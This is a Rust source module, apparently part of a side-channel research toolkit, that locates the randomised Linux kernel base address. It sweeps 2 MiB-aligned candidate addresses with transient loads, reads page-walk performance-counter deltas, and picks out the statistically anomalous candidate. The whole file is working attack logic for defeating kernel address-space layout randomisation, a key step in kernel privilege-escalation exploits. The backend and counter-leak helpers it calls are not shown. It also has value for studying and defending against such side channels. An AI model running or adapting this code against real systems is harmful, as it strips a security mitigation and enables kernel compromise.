//! Kernel base detection from page-walk counter deltas: loads from unmapped
//! kernel addresses always walk the page tables, a recently used mapped page
//! does not.

use serde::{Deserialize, Serialize};

use crate::backend::Backend;
use crate::counterleak::{CounterLeak, CounterSelector, DEFAULT_RETRIES};
use crate::error::{Error, Result};
use crate::harness::TransientBody;
use crate::stats::{bonferroni_z, mad, median_f64, MAD_TO_SIGMA};

pub const WALK_EVENT: &str = "DTLB_LOAD_MISSES.WALK_COMPLETED_2M_4M";
/// Lowest x86-64 Linux kernel text base.
pub const KERNEL_RANGE_START: u64 = 0xffff_ffff_8000_0000;
/// Kernel base alignment.
pub const KERNEL_ALIGN: u64 = 2 << 20;
pub const DEFAULT_CANDIDATES: usize = 512;
/// Family-wise false-detection rate over a whole range.
pub const FAMILY_ALPHA: f64 = 0.01;
/// Minimum robust z-score for an anomaly, however few the candidates.
pub const MIN_Z: f64 = 3.0;
/// Floor for the MAD so integer deltas with mostly equal values still give a
/// finite scale.
pub const MAD_FLOOR: f64 = 0.5;
/// Deltas further than this many MAD-derived deviations from the median are
/// left out of the spread estimate.
pub const TRIM_Z: f64 = 5.0;
pub const COUNTER_BYTES: usize = 2;

pub fn candidate_range(start: u64, step: u64, count: usize) -> Vec<u64> {
    (0..count as u64)
        .map(|i| start.wrapping_add(i * step))
        .collect()
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct KaslrScanResult {
    pub candidate_addresses: Vec<u64>,
    pub walk_deltas: Vec<i64>,
    pub detected_base: Option<u64>,
    /// Robust z-score a candidate had to exceed.
    pub threshold_z: f64,
    pub median: f64,
    pub scale: f64,
}

/// Anomaly threshold for `candidates` comparisons: the larger of [`MIN_Z`]
/// and the Bonferroni-corrected critical value.
pub fn threshold_z(candidates: usize) -> f64 {
    bonferroni_z(FAMILY_ALPHA, candidates).max(MIN_Z)
}

/// First candidate whose delta deviates from the range median by more than
/// the threshold in MAD-derived standard deviations, either way.
pub fn detect(candidates: &[u64], deltas: &[i64]) -> Result<KaslrScanResult> {
    if candidates.len() != deltas.len() {
        return Err(Error::InvalidArgument(format!(
            "{} candidates but {} deltas",
            candidates.len(),
            deltas.len()
        )));
    }
    let threshold = threshold_z(candidates.len());
    if candidates.is_empty() {
        return Ok(KaslrScanResult {
            candidate_addresses: Vec::new(),
            walk_deltas: Vec::new(),
            detected_base: None,
            threshold_z: threshold,
            median: 0.0,
            scale: 0.0,
        });
    }
    let values: Vec<f64> = deltas.iter().map(|&d| d as f64).collect();
    let median = median_f64(&values).expect("nonempty");
    let scale = spread(&values, median);
    let detected = values
        .iter()
        .position(|v| ((v - median) / scale).abs() > threshold)
        .map(|i| candidates[i]);
    if detected.is_none() {
        return Err(Error::NoAnomaly);
    }
    Ok(KaslrScanResult {
        candidate_addresses: candidates.to_vec(),
        walk_deltas: deltas.to_vec(),
        detected_base: detected,
        threshold_z: threshold,
        median,
        scale,
    })
}

/// Standard deviation of the deltas near the median, never below the MAD
/// estimate. The MAD alone runs low on small integer deltas: with a rounded
/// Gaussian of deviation 2 it lands on 1 instead of 1.35.
fn spread(values: &[f64], median: f64) -> f64 {
    let robust = mad(values).expect("nonempty").max(MAD_FLOOR) * MAD_TO_SIGMA;
    let inliers: Vec<f64> = values
        .iter()
        .copied()
        .filter(|v| (v - median).abs() <= TRIM_Z * robust)
        .collect();
    let n = inliers.len() as f64;
    if n < 2.0 {
        return robust;
    }
    let mean = inliers.iter().sum::<f64>() / n;
    let var = inliers.iter().map(|v| (v - mean).powi(2)).sum::<f64>() / (n - 1.0);
    var.sqrt().max(robust)
}

/// Walk-counter delta around one faulting load of each candidate. Each
/// candidate is loaded once beforehand so a mapped page is TLB-resident.
pub fn collect<B: Backend>(leak: &mut CounterLeak<'_, B>, candidates: &[u64]) -> Result<Vec<i64>> {
    let mut deltas = Vec::with_capacity(candidates.len());
    for &address in candidates {
        let body = TransientBody::Touch { address };
        leak.backend().run_transient(&body)?;
        deltas.push(leak.leak_delta_with(|b| b.run_transient(&body).map(|_| ()))?);
    }
    Ok(deltas)
}

pub fn scan<B: Backend>(
    backend: &mut B,
    selector: CounterSelector,
    candidates: &[u64],
) -> Result<KaslrScanResult> {
    if candidates.is_empty() {
        return detect(&[], &[]);
    }
    let mut leak = CounterLeak::new(backend, selector, COUNTER_BYTES, DEFAULT_RETRIES)?;
    let deltas = collect(&mut leak, candidates)?;
    detect(candidates, &deltas)
}
